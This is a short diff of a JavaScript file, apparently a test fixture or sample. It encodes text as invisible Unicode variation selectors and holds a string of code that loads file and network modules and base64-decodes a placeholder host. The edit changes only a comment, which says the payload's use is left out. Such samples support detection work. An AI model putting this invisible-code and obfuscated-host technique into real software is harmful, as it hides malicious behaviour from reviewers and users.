@@ -6,7 +6,7 @@ const INVISIBLE = Array.from('inert', (letter) =>
   String.fromCodePoint(0xfe00 + (letter.charCodeAt(0) & 0xf)),
 ).join('');
 
-/** Folders, a host and a country, each decoded by itself: what is done with them is left out. */
+/** Folders, a host and a country, each decoded by itself; their use is left out. */
 const HIDDEN_WORDS = `const path = require("path"), fs = require("fs"), https = require("https");
 setTimeout(function () {
   const host = Buffer.from("aHR0cHM6Ly9nZW8uZXhhbXBsZS5pbnZhbGlk", "base64");
